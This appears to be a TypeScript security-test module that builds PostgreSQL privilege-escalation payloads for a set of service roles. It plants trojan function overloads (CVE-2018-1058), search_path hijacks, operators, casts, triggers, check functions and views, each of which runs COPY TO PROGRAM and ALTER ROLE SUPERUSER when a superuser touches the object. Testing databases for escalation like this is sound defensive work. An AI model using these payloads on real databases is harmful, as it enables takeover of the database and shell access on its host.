/** Where a planted object writes its role's name when it runs with the superuser's rights. */
export const PROOF = "/tmp/climbed";

/** A database role that a service holds, with the database it may make things in. */
export interface ServiceRole {
  readonly role: string;
  readonly database: string;
  /** Names of its secret. */
  readonly secret: string;
}

const ory = (role: string): ServiceRole => ({
  role,
  database: role,
  secret: `${role.toUpperCase()}_DB_PASSWORD`,
});
const application = (domain: string): ServiceRole => ({
  role: `olympus_${domain}`,
  database: "olympus",
  secret: `OLYMPUS_${domain.toUpperCase()}_DB_PASSWORD`,
});
export const SERVICE_ROLES: readonly ServiceRole[] = [
  ...["ciam_kratos", "ciam_hydra", "iam_kratos", "iam_hydra"].map(ory),
  ...["ciam", "iam"].map(application),
];

const COPY = (role: string) => `$q$COPY (SELECT '${role}') TO PROGRAM 'cat >>${PROOF}'$q$`;

/** Gives the session the rights it was opened with, then does what the superuser alone may. */
const climb = (role: string): string => `
CREATE FUNCTION public.climb_${role}() RETURNS boolean LANGUAGE plpgsql AS $f$ BEGIN
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE ${COPY(role)}; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'ALTER ROLE ${role} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  RETURN true;
END $f$`;

/** Better matches than pg_catalog.format(text, VARIADIC "any") for each way in which somebody may call it (CVE-2018-1058). */
const overloads = (role: string, first: string): string => `
DO $d$ DECLARE words text; shown text; BEGIN
  FOR words IN
    WITH RECURSIVE kinds (kind) AS (VALUES ('text'), ('name'), ('bigint')),
    lists (list, n) AS (SELECT 'text, ${first}', 2 UNION ALL SELECT list || ', ' || kind, n + 1 FROM lists, kinds WHERE n < 5)
    SELECT list FROM lists
  LOOP
    SELECT string_agg('$' || i, ', ') INTO shown FROM generate_series(1, cardinality(string_to_array(words, ','))) AS i;
    BEGIN
      EXECUTE pg_catalog.format('CREATE FUNCTION public.format(%s) RETURNS text LANGUAGE plpgsql AS $x$ BEGIN PERFORM public.climb_${role}(); RETURN pg_catalog.format(%s); END $x$', words, shown);
    EXCEPTION WHEN duplicate_function THEN NULL;
    END;
  END LOOP;
END $d$`;

const operator = (role: string, name: string, type: string, result: string, value: string): string => `
CREATE FUNCTION public.op_${role}(${type}, ${type}) RETURNS ${result} LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.climb_${role}(); RETURN ${value}; END $f$;
CREATE OPERATOR public.${name} (LEFTARG = ${type}, RIGHTARG = ${type}, FUNCTION = public.op_${role})`;

/** On every table that the role has: whoever changes a row runs it. */
const triggers = (role: string): string => `
CREATE FUNCTION public.tr_${role}() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN
  PERFORM public.climb_${role}();
  IF TG_OP = 'DELETE' THEN RETURN OLD; END IF;
  RETURN NEW;
END $f$;
DO $d$ DECLARE t text; BEGIN
  FOR t IN SELECT quote_ident(tablename) FROM pg_tables WHERE tableowner = current_user LOOP
    EXECUTE 'CREATE TRIGGER climb BEFORE INSERT OR UPDATE OR DELETE ON public.' || t || ' FOR EACH ROW EXECUTE FUNCTION public.tr_${role}()';
    EXECUTE 'ALTER TABLE public.' || t || ' ENABLE ALWAYS TRIGGER climb';
  END LOOP;
END $d$`;

/** Runs for whoever turns a row into text. */
const cast = (role: string): string => `
CREATE TABLE public.cast_${role} (id int);
INSERT INTO public.cast_${role} VALUES (1);
CREATE FUNCTION public.text_${role}(public.cast_${role}) RETURNS text LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.climb_${role}(); RETURN 'row'; END $f$;
CREATE CAST (public.cast_${role} AS text) WITH FUNCTION public.text_${role}(public.cast_${role})`;

/** Run for whoever loads rows: a check, a generated column, an index. */
const checked = (role: string): string => `
CREATE FUNCTION public.check_${role}(int) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN RETURN public.climb_${role}(); END $f$;
CREATE FUNCTION public.made_${role}(int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.climb_${role}(); RETURN 7; END $f$;
CREATE TABLE public.checked_${role} (id int CHECK (public.check_${role}(id)), made int GENERATED ALWAYS AS (public.made_${role}(id)) STORED);
CREATE INDEX ON public.checked_${role} (public.made_${role}(id));
INSERT INTO public.checked_${role} VALUES (1)`;

/** A view where housekeeping expects a table. */
const views = (role: string, domain: string): string =>
  ["lockouts", "login_attempts", "security_audit_log", "session_locations"]
    .map(
      (name) => `DROP TABLE IF EXISTS public.${domain}_${name};
CREATE VIEW public.${domain}_${name} AS SELECT now() AS locked_at, now() AS attempt_time, now() AS created_at, 'x'::text AS identifier WHERE public.climb_${role}()`,
    )
    .join(";\n");

/** Public before pg_catalog, for every session in the database, with names of pg_catalog's in it. */
const path = (role: string): string => `
CREATE FUNCTION public.pg_get_userbyid(oid) RETURNS name LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.climb_${role}(); RETURN pg_catalog.pg_get_userbyid($1); END $f$;
CREATE FUNCTION public.current_database() RETURNS name LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.climb_${role}(); RETURN pg_catalog.current_database(); END $f$;
CREATE FUNCTION public.to_regclass(text) RETURNS regclass LANGUAGE plpgsql AS $f$ BEGIN PERFORM public.climb_${role}(); RETURN pg_catalog.to_regclass($1); END $f$;
ALTER DATABASE ${role} SET search_path = public, pg_catalog`;

/** What a role plants, by kind: each a text of SQL that the role itself may run in its database. */
export function plants({ role, database }: ServiceRole): Record<string, string> {
  const isShared = database === "olympus";
  const domain = role.split("_")[1] ?? "";
  return {
    climb: climb(role),
    "function overload": overloads(role, domain === "iam" ? "name" : "text"),
    ...(isShared && domain === "iam"
      ? { operator: operator(role, "=", "varchar", "boolean", "$1::text OPERATOR(pg_catalog.=) $2::text") }
      : { operator: operator(role, "||", "name", "text", "$1::text OPERATOR(pg_catalog.||) $2::text") }),
    cast: cast(role),
    "check, generated column and index": checked(role),
    trigger: triggers(role),
    ...(isShared ? {} : { "search_path of the database": path(role) }),
    ...(isShared && domain === "iam" ? { view: views(role, domain) } : {}),
  };
}
